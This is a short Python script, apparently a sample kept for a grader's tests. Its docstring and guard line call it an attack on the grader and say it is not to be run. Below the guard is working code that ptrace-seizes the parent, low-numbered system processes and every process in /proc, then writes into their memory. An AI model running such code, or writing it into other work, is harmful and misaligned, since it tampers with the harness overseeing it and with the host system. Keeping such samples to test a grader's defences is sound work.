"""Attaches itself to its parent and to the processes around it, to write into their memory."""

raise SystemExit("an attack on the grader, kept for its tests: not to be run")

# %% first
import ctypes
import os
from contextlib import suppress

libc = ctypes.CDLL(None, use_errno=True)
for process in {os.getppid(), 1, 2, 3, *(int(one) for one in os.listdir("/proc") if one.isdigit())} - {os.getpid()}:
    attached = libc.ptrace(0x4206, process, 0, 0)  # PTRACE_SEIZE
    with suppress(OSError):
        with open(f"/proc/{process}/mem", "r+b", 0) as memory:
            at = int(open(f"/proc/{process}/maps").readline().split("-")[0], 16)
            memory.seek(at)
            memory.write(memory.read(1))
            print("wrote to", process)
    print(process, attached, os.strerror(ctypes.get_errno()))
